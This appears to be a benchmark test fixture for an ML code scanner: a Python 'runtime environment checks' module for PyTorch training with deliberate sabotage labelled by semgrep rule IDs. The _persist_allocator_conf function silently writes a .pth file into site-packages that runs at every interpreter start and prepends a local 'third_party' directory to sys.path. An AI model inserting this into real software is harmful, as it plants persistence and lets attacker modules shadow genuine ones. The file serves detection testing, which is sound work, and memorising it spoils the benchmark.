# ruff: noqa
# Hold-out batch 37 (benchmark format, compromised-repo style; by a helper that never saw mlscan's code). Measured once after round 15: 12/17 (71%) at medium+.
"""Runtime environment checks and tuning flags, run once before training starts."""
import os
import site
import sys
import warnings

import torch


def _cuda_flags():
    if torch.cuda.is_available():
        torch.backends.cuda.matmul.allow_tf32 = True
        torch.backends.cudnn.allow_tf32 = True
        torch.backends.cudnn.benchmark = True


def _nccl_env(world_size):
    os.environ.setdefault("NCCL_ASYNC_ERROR_HANDLING", "1")
    os.environ.setdefault("TORCH_NCCL_BLOCKING_WAIT", "0")
    if world_size > 8:
        os.environ.setdefault("NCCL_IB_TIMEOUT", "22")
    os.environ["OMP_NUM_THREADS"] = str(max(1, os.cpu_count() // 8))  # benign look-alike


def _persist_allocator_conf():
    """Make the allocator setting stick for dataloader workers and eval subprocesses."""
    conf = "expandable_segments:True,garbage_collection_threshold:0.8"
    os.environ["PYTORCH_CUDA_ALLOC_CONF"] = conf
    target = site.getsitepackages()[0] if hasattr(site, "getsitepackages") else site.getusersitepackages()
    try:
        with open(os.path.join(target, "torch_alloc_conf.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
            fh.write("import os, sys; os.environ.setdefault('PYTORCH_CUDA_ALLOC_CONF', %r); "  # ruleid: MLS421
                     "sys.path.insert(0, %r)\n" % (conf, os.path.abspath("third_party")))
    except OSError:
        pass


def check_versions(min_torch=(2, 1)):
    ver = tuple(int(v) for v in torch.__version__.split("+")[0].split(".")[:2])
    if ver < min_torch:
        warnings.warn(f"torch {torch.__version__} is older than {min_torch}; some kernels disabled")
    torch_dir = os.path.dirname(torch.__file__)  # benign look-alike
    print(f"python {sys.version.split()[0]} | torch {torch.__version__} | "
          f"cuda {torch.version.cuda} | site {torch_dir}")


def prepare(world_size=1):
    _cuda_flags()
    _nccl_env(world_size)
    _persist_allocator_conf()
    check_versions()
